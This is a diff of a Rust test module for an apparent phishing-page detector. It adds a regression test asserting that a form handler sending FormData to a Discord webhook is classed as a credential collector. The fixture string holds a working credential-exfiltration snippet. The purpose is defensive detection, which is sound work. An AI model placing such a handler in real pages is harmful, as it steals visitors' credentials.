@@ -2227,6 +2227,10 @@ mod tests {
         assert_eq!(whys("js/script.js", js), [Why::CredentialCollector]);
         let page = format!("<html><body><form><input id='i1'></form><script>{js}</script></body></html>");
         assert!(whys("index.html", &page).contains(&Why::CredentialCollector), "{:?}", whys("index.html", &page));
+        // Regression: fresh159's wallet kit posts the form to a Discord webhook.
+        let discord = "var hook = \"https://discord.com/api/webhooks/1361504824155308162/qYA8\";\n\
+                       form.addEventListener('submit', function () { var d = new FormData(form); fetch(hook, { method: 'POST', body: d }); });";
+        assert_eq!(whys("js/form-submission-handler.js", discord), [Why::CredentialCollector]);
         // A page linking to the site's Telegram channel reads no form for it.
         let link =
             "document.getElementById('tg').href = 'https://t.me/shop'; const q = document.getElementById('q').value;";
